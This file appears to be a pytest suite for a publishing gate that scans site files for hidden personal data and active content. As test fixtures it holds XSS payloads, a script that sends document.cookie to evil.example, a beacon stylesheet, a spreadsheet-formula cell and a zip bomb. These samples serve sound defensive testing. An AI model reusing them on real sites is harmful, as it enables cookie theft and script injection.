"""The gate reads files by their bytes: every layer opened, every kind it cannot read a finding (in-process)."""

from __future__ import annotations

import bz2
import gzip
import hashlib
import io
import lzma
import tarfile
import zipfile
import zlib
from pathlib import Path

import pytest
from PIL import Image, PngImagePlugin
from pypdf.generic import ArrayObject, ByteStringObject, NameObject

from generator.filekinds import Kind
from generator.gate.identifiers import find_identifiers
from generator.gate.images import UnreadableImage, image_text
from generator.gate.layers import Limits
from generator.gate.markup import check_markup
from generator.gate.scripts import OUR_THEME, SCRIPT_SUFFIXES, listed
from generator.gate.sitefiles import SiteFiles
from generator.gate.withheld_values import check_withheld_values
from tests.pdf_corpus import PLAIN, rewritten


def _gzip(data: bytes) -> bytes:
    """Gzip with a fixed time stamp: test ids built from the bytes must be the same in every process."""
    return gzip.compress(data, mtime=0)


WITHHELD = "Maria Lopez-Diaz"
SSN = "SSN 123-45-6789"


def site(
    tmp_path: Path, files: dict[str, str | bytes], limits: Limits | None = None, theme: dict[str, bytes] | None = None
) -> SiteFiles:
    root = tmp_path / "site"
    theme_dir = tmp_path / "theme"
    for folder, contents in ((root, files), (theme_dir, theme or {})):
        folder.mkdir(parents=True, exist_ok=True)
        for name, data in contents.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data.encode() if isinstance(data, str) else data)
    return SiteFiles(root, [theme_dir], None, limits)


def findings(files: SiteFiles) -> list[str]:
    return [str(finding) for finding in check_markup(files)]


RAW = " (raw bytes)"  # every file that is not plain text is also read whole, as its raw bytes show
NAMES = "(file names)"  # and the site's file names are read as one text


def identifiers(files: SiteFiles, raw: bool = False) -> dict[str, set[str]]:
    return {
        file.name: {m.kind for m in find_identifiers(files.readable(file))}
        for file in files.files
        if raw or not (file.name.endswith(RAW) or file.name == NAMES)
    }


def withheld(files: SiteFiles, raw: bool = False) -> set[str]:
    found = {finding.file for finding in check_withheld_values({"r/d": [WITHHELD]}, files)}
    return {name for name in found if raw or not (name.endswith(RAW) or name == NAMES)}


def png(**text: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    for key, value in text.items():
        info.add_text(key, value)
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(out, "PNG", pnginfo=info)
    return out.getvalue()


def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


# Markup wherever a browser would render it.


@pytest.mark.parametrize(
    ("name", "place"),
    [
        ("logo.svg", "svg image"),  # an SVG and a feed have rules of their own (svg.py, feeds.py)
        ("old.shtml", "generated content"),
        ("page.xhtml", "generated content"),
        ("feed.xml", "feed"),
        ("x.xsl", "generated content"),
        ("notes.hta", "generated content"),
    ],
)
def test_markup_files_are_checked_whole(tmp_path, name, place):
    files = site(tmp_path, {name: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'})
    assert any(finding.startswith(f"{name}: {place}: [active-content]") for finding in findings(files))


def test_markup_is_sniffed_whatever_the_name(tmp_path):
    files = site(tmp_path, {"notes.txt": "\ufeff  \n<p>x</p><img src=x onerror=alert(1)>"})
    assert "notes.txt: generated content: [active-content] element <img> is not allowed" in findings(files)


def test_text_in_a_file_named_like_an_image_is_read_as_text(tmp_path):
    files = site(tmp_path, {"assets/images/photo.png": f"Contact {WITHHELD}, {SSN}.\n"})
    assert findings(files) == []
    assert identifiers(files) == {"assets/images/photo.png": {"ssn"}}
    assert withheld(files) == {"assets/images/photo.png"}


def test_theme_files_are_skipped_only_when_byte_identical(tmp_path):
    files = site(
        tmp_path, {"assets/a.js": "x()", "assets/b.js": "evil()"}, theme={"assets/a.js": b"x()", "assets/b.js": b"y()"}
    )
    assert findings(files) == ["assets/b.js: file: [active-content] a script that is not one of those allowed by hash"]


def test_our_scripts_are_allowed_by_their_listed_hash_wherever_they_are_and_never_by_name(tmp_path):
    ours = (OUR_THEME / "assets/javascripts/reading-room-tables.js").read_bytes()
    files = site(
        tmp_path,
        {
            "assets/javascripts/reading-room-tables.js": ours,
            "elsewhere/copy.js": ours,  # the same bytes: the same code
            "assets/javascripts/reading-room-explore.js": b"fetch('https://evil.example/?' + document.cookie)",
        },
    )
    assert findings(files) == [
        "assets/javascripts/reading-room-explore.js: file: [active-content] a script that is not one of those allowed "
        "by hash"
    ]


def test_every_script_of_ours_is_listed_with_its_hash_and_nothing_else_is():
    """A script of ours that changes needs its line in generator/data/scripts.sha256 changed in the same commit."""
    on_disk = {
        path.relative_to(OUR_THEME).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(OUR_THEME.rglob("*"))
        if path.suffix in SCRIPT_SUFFIXES
    }
    assert listed() == on_disk


@pytest.mark.parametrize("name", ["extra.js", "module.mjs", "sub/dir/x.js"])
def test_a_stray_script_is_a_finding(tmp_path, name):
    assert findings(site(tmp_path, {name: "console.log(1)"})) == [
        f"{name}: file: [active-content] a script that is not one of those allowed by hash"
    ]


def test_hostile_stylesheet_in_the_site_fails(tmp_path):
    files = site(
        tmp_path,
        {
            "assets/extra.css": "a { background: url(https://evil.example/beacon.png) }",
            "assets/ok.css": ".rr { color: red }",
        },
    )
    assert findings(files) == ["assets/extra.css: stylesheet: [active-content] url() to another site or with a scheme"]


def test_sitemap_with_an_identifier_and_a_script(tmp_path):
    sitemap = (
        '<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        "<url><loc>https://x.example/jane.doe@example.org/</loc></url></urlset>"
    )
    files = site(tmp_path, {"sitemap.xml": sitemap})
    assert findings(files) == []
    assert identifiers(files) == {"sitemap.xml": {"email"}}
    hostile = sitemap.replace("<url>", "<url><script>alert(1)</script>")
    assert "sitemap.xml: sitemap: [active-content] element <script> is not allowed here" in findings(
        site(tmp_path / "2", {"sitemap.xml": hostile})
    )
    stylesheet = sitemap.replace("<urlset", '<?xml-stylesheet type="text/xsl" href="s.xsl"?><urlset')
    assert (
        "sitemap.xml.gz (decompressed): sitemap: [active-content] a processing instruction other than the XML "
        "declaration is not allowed"
    ) in findings(site(tmp_path / "3", {"sitemap.xml.gz": _gzip(stylesheet.encode())}))


# Compression layers.


def test_gz_is_decompressed(tmp_path):
    files = site(tmp_path, {"notes.txt.gz": _gzip(SSN.encode())})
    assert identifiers(files) == {"notes.txt.gz (decompressed)": {"ssn"}}
    assert files.files[0].suffix == ".txt"


def test_two_gzip_layers_and_every_other_compression(tmp_path):
    text = f"{SSN}\n".encode()
    files = site(
        tmp_path,
        {
            "a.gz": _gzip(_gzip(text)),
            "b.bin": zlib.compress(text),
            "c.bz2": bz2.compress(text),
            "d.xz": lzma.compress(text),
            "e": _gzip(bz2.compress(lzma.compress(zlib.compress(text)))),
        },
    )
    found = identifiers(files)
    assert found["a.gz (decompressed) (decompressed)"] == {"ssn"}
    assert found["b.bin (decompressed)"] == found["c.bz2 (decompressed)"] == found["d.xz (decompressed)"] == {"ssn"}
    assert found["e (decompressed) (decompressed) (decompressed) (decompressed)"] == {"ssn"}
    assert findings(files) == []


def test_every_gzip_member_and_the_bytes_after_it_are_read(tmp_path):
    data = _gzip(b"first member\n") + _gzip(SSN.encode()) + f"\n{WITHHELD}\n".encode()
    files = site(tmp_path, {"x.txt.gz": data})
    assert identifiers(files)["x.txt.gz (decompressed)"] == {"ssn"}
    assert withheld(files) == {"x.txt.gz (bytes after the gzip stream)"}


def test_a_gzipped_svg_is_markup(tmp_path):
    files = site(tmp_path, {"icon.svgz": _gzip(b"<svg><script>alert(1)</script></svg>")})
    # Read as the SVG it is, by the SVG rule (svg.py).
    assert any(
        finding.startswith("icon.svgz (decompressed): svg image: [active-content]") for finding in findings(files)
    )


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (_gzip(b"x" * 100)[:-10], "gzip"),
        (b"\x1f\x8b\x08\x00garbage", "gzip"),
        (bz2.compress(b"x" * 100)[:-5], "bzip2"),
    ],
)
def test_a_corrupt_compressed_file_is_a_finding(tmp_path, data, kind):
    [finding] = findings(site(tmp_path, {"x.gz": data}))
    assert finding.startswith(f"x.gz: file: [unreadable-file] cannot read this {kind} file (")


# Archives: office documents are zips.


def test_an_office_document_is_opened_and_its_xml_read_as_text(tmp_path):
    document = (
        b'<?xml version="1.0"?><w:document xmlns:w="x"><w:body><w:p><w:r><w:t>Contact '
        b"jane.doe@</w:t></w:r><w:r><w:t>example.org</w:t></w:r></w:p></w:body></w:document>"
    )
    docx = zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": document})
    files = site(tmp_path, {"files/letter.docx": docx, "x.zip": zipped({"inner.zip": zipped({"a.txt": SSN.encode()})})})
    found = identifiers(files)
    assert found["files/letter.docx: word/document.xml"] == {"email"}
    assert found["x.zip: inner.zip: a.txt"] == {"ssn"}
    assert findings(files) == []  # archive members are read as text, never rendered as pages


def test_a_tar_inside_a_gzip_is_opened(tmp_path):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("export/people.txt")
        info.size = len(WITHHELD)
        archive.addfile(info, io.BytesIO(WITHHELD.encode()))
    files = site(tmp_path, {"export.tar.gz": _gzip(out.getvalue())})
    assert withheld(files) == {"export.tar.gz (decompressed): export/people.txt"}


def test_a_zip_bomb_over_the_bound_is_a_finding(tmp_path):
    bomb = zipped({"zeros.txt": b"0" * 3_000_000})
    assert len(bomb) < 10_000
    files = site(tmp_path, {"bomb.zip": bomb}, Limits(total_bytes=1_000_000))
    assert findings(files) == ["bomb.zip: file: [unreadable-file] more than 1000000 bytes when decompressed"]
    gz = site(tmp_path / "gz", {"bomb.gz": _gzip(b"0" * 3_000_000)}, Limits(total_bytes=1_000_000))
    assert findings(gz) == ["bomb.gz: file: [unreadable-file] more than 1000000 bytes when decompressed"]


def test_too_many_members_and_too_deep_nesting_are_findings(tmp_path):
    many = zipped({f"m{i}.txt": b"x" for i in range(20)})
    deep = b"x"
    for _ in range(5):
        deep = _gzip(deep)
    files = site(tmp_path, {"many.zip": many, "deep.gz": deep}, Limits(depth=3, members=10))
    assert sorted(findings(files)) == [
        "deep.gz (decompressed) (decompressed) (decompressed): file: [unreadable-file] more than 3 nested layers",
        "many.zip: file: [unreadable-file] more than 10 archive members",
    ]


# Kinds the gate cannot read.


def test_a_pdf_no_reader_can_open_is_a_finding(tmp_path):
    (finding,) = findings(site(tmp_path, {"files/blob.dat": b"%PDF-1.7\n" + bytes(range(256))}))
    assert finding.startswith("files/blob.dat: file: [unreadable-file] the PDF cannot be read: PDFium cannot open it")


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(range(256)), "7z"),
        (b"Rar!\x1a\x07\x01\x00" + bytes(range(256)), "rar"),
        (b"\x28\xb5\x2f\xfd" + bytes(range(256)), "zstd"),
        (bytes(range(256)), "binary"),
    ],
)
def test_unreadable_kinds_are_findings(tmp_path, data, kind):
    assert findings(site(tmp_path, {"files/blob.dat": data})) == [
        f"files/blob.dat: file: [unreadable-file] the gate cannot read this file ({kind}); remove it"
    ]


# Images: real images of their claimed type, their text metadata read as text.


def test_a_real_png_passes_and_its_text_chunks_are_read(tmp_path):
    files = site(tmp_path, {"assets/images/chart.png": png(Comment=f"Photo of {WITHHELD}", Author=SSN)})
    assert findings(files) == []
    assert withheld(files) == {"assets/images/chart.png (image metadata)"}
    assert identifiers(files) == {"assets/images/chart.png (image metadata)": {"ssn"}}


def test_bytes_after_a_png_are_read(tmp_path):
    files = site(tmp_path, {"a.png": png() + WITHHELD.encode()})
    assert withheld(files) == {"a.png (bytes after the image)"}


def test_jpeg_and_gif_comments_are_read(tmp_path):
    jpeg, gif = io.BytesIO(), io.BytesIO()
    Image.new("RGB", (4, 4)).save(jpeg, "JPEG", comment=WITHHELD.encode())
    Image.new("P", (4, 4)).save(gif, "GIF", comment=WITHHELD.encode())
    files = site(tmp_path, {"a.jpg": jpeg.getvalue(), "b.gif": gif.getvalue()})
    assert findings(files) == []
    assert withheld(files) == {"a.jpg (image metadata)", "b.gif (image metadata)"}


def test_an_image_failing_verification_is_a_finding(tmp_path):
    data = png()
    idat = data.index(b"IDAT") - 4
    end = idat + 12 + int.from_bytes(data[idat : idat + 4], "big")
    bad_checksum = data[: end - 4] + b"\x00\x00\x00\x00" + data[end:]  # the image data's CRC, read only by verify()
    [finding] = findings(site(tmp_path, {"a.png": bad_checksum}))
    assert finding.startswith("a.png: file: [unreadable-file] cannot read this png file (")


@pytest.mark.parametrize("claimed", [Kind.GIF, Kind.JPEG, Kind.ICO, Kind.WEBP])
def test_an_image_must_be_of_the_kind_its_bytes_claim(claimed):
    with pytest.raises(UnreadableImage):
        image_text(png(), claimed)


def test_a_broken_image_is_a_finding(tmp_path):
    broken = png()[:40] + b"\x00" * 30
    [finding] = findings(site(tmp_path, {"a.png": broken}))
    assert finding.startswith("a.png: file: [unreadable-file] cannot read this png file (")
    [mislabelled] = findings(site(tmp_path / "2", {"a.gif": b"GIF89a" + png()}))
    assert mislabelled.startswith("a.gif: file: [unreadable-file] cannot read this gif file (")


# The search index.


def test_a_malformed_search_index_is_a_finding_not_a_crash(tmp_path):
    files = site(tmp_path, {"search/search_index.json": '{"docs": [{"location": "x", "text": "' + SSN})
    assert list(files.search_entries())
    assert (
        "search/search_index.json: file: [unreadable-file] the search index is not the JSON the theme writes"
        in findings(files)
    )


@pytest.mark.parametrize(
    "markup",
    [
        f'<p class="x {WITHHELD}">y</p>',
        f"<p>{WITHHELD[:5]}<em>{WITHHELD[5:]}</em></p>",
        f"<script>var x = '{WITHHELD}';</script>",
        f"<?{WITHHELD}?>",
        f'<svg><path d="M0 0" id="{WITHHELD}"/></svg>',
        f"<template><p>{WITHHELD}</p></template>",
    ],
)
def test_the_withheld_values_proof_reads_everything_a_page_carries(tmp_path, markup):
    assert withheld(site(tmp_path, {"page.html": f"<html><body>{markup}</body></html>"})) == {"page.html"}


def test_bytes_after_a_jpeg_a_webp_or_a_zip_are_read(tmp_path):
    jpeg, webp = io.BytesIO(), io.BytesIO()
    Image.new("RGB", (4, 4)).save(jpeg, "JPEG")
    Image.new("RGB", (4, 4)).save(webp, "WEBP")
    appended = f"\n{WITHHELD}\n".encode()
    files = site(
        tmp_path,
        {
            "a.jpg": jpeg.getvalue() + appended,
            "b.webp": webp.getvalue() + appended,
            "c.zip": zipped({"a.txt": b"x"}) + appended,
        },
    )
    assert withheld(files) == {
        "a.jpg (bytes after the image)",
        "b.webp (bytes after the image)",
        "c.zip (bytes after the archive)",
    }
    assert findings(files) == []


def _private_chunk(data: bytes, chunk_type: bytes, body: bytes) -> bytes:
    """A PNG with an extra chunk before IEND, which Pillow ignores but the bytes still carry."""
    chunk = len(body).to_bytes(4, "big") + chunk_type + body + zlib.crc32(chunk_type + body).to_bytes(4, "big")
    end = data.rindex(b"IEND") - 4
    return data[:end] + chunk + data[end:]


def _stored_zip_with_a_gap(text: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("a.txt", "harmless")
    data = out.getvalue()
    directory = data.index(b"PK\x01\x02")
    # Text between the member and the central directory: no zip reader yields it, a text viewer shows it.
    shifted = data[:directory] + text + data[directory:]
    offset = int.from_bytes(shifted[-6:-2], "little") + len(text)
    return shifted[:-6] + offset.to_bytes(4, "little") + shifted[-2:]


@pytest.mark.parametrize(
    ("name", "build"),
    [
        ("assets/private.png", lambda text: _private_chunk(png(), b"prVt", text)),
        ("assets/font.woff", lambda text: b"wOFF\xff\x00\x01" + text),
        ("assets/font.otf", lambda text: b"OTTO\x00\x0b\x00\x80" + text),
        ("notes.txt", _stored_zip_with_a_gap),
        ("assets/blob.bin", lambda text: b"\xff\xfe\x00binary " + text),
    ],
)
def test_text_hidden_beside_a_structure_the_readers_know_is_still_read(tmp_path, name, build):
    files = site(tmp_path, {name: build(f"{SSN} {WITHHELD}".encode())})
    assert "ssn" in identifiers(files, raw=True).get(f"{name}{RAW}", set())
    assert f"{name}{RAW}" in withheld(files, raw=True)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("x.html", b"OTTO\xff<script>alert(1)</script>"),
        ("page.htm", b"wOFF\xff<script>alert(1)</script>"),
        ("p.html", None),
        ("a.svg", _gzip(b"<svg><script>alert(1)</script></svg>")),
    ],
)
def test_a_file_named_as_a_page_must_be_text_whatever_its_first_bytes(tmp_path, name, data):
    """A server sends it as HTML by its name and the browser renders it: binary bytes are no excuse."""
    files = site(tmp_path, {name: png(Comment="<script>alert(1)</script>") if data is None else data})
    assert f"{name}: file: [unreadable-file] named like a page a browser renders, but its bytes are not text" in (
        findings(files)
    )


def test_file_names_are_read(tmp_path):
    files = site(tmp_path, {"assets/Maria Lopez-Diaz/123-45-6789.css": "body{}", "maria.lopez%40example.org.txt": "x"})
    assert NAMES in withheld(files, raw=True)
    assert identifiers(files, raw=True)[NAMES] >= {"ssn", "email"}


def test_a_symbolic_link_in_the_site_is_a_finding_and_is_not_followed(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(f"{SSN}")
    files = site(tmp_path, {"index.html": "<p>x</p>"})
    (files.root / "evil").symlink_to(outside)
    (files.root / "passwd.txt").symlink_to(outside / "secret.txt")
    found = findings(SiteFiles(files.root))
    assert "evil: file: [site-link] a symbolic link in the site" in found
    assert "passwd.txt: file: [site-link] a symbolic link in the site" in found
    assert "passwd.txt" not in {file.name for file in SiteFiles(files.root).files}


def _with_escaped_name(pdf: bytes) -> bytes:
    """The PDF with a name written in #xx escapes (the same length as the plain name, so offsets hold)."""
    plain, escaped = b"/jane.doe@example.orgZZZZZZ", b"/jane#2Edoe#40example#2Eorg"
    assert len(plain) == len(escaped) and plain in pdf
    return pdf.replace(plain, escaped)


@pytest.mark.parametrize(
    ("hidden", "written"),
    [
        (ByteStringObject(b"Reach jane.doe@example.org"), lambda pdf: pdf),  # a hex string, in no page
        (NameObject("/jane.doe@example.orgZZZZZZ"), _with_escaped_name),  # a name in #xx escapes
    ],
)
def test_text_a_pdf_writes_in_codes_is_read_as_text(tmp_path, hidden, written):
    """Unreadable in the raw bytes, plain to any PDF reader: the gate reads it as text."""
    pdf = written(rewritten(PLAIN, lambda writer: writer._add_object(ArrayObject([hidden]))))
    assert b"jane.doe@example.org" not in pdf
    found = identifiers(site(tmp_path, {"releases/r/d.pdf": pdf}), raw=True)
    assert any("email" in kinds for name, kinds in found.items() if name.startswith("releases/r/d.pdf")), found


def test_a_cell_a_spreadsheet_would_run_in_a_published_csv_is_found(tmp_path):
    files = site(tmp_path, {"statistics/x.csv": 'a,b\r\n"=HYPERLINK(""https://evil.example"")",2\r\n\'=1,-5\r\n'})
    assert findings(files) == [
        "statistics/x.csv: row 2, column 1: [active-content] a cell a spreadsheet would run as a formula"
    ]
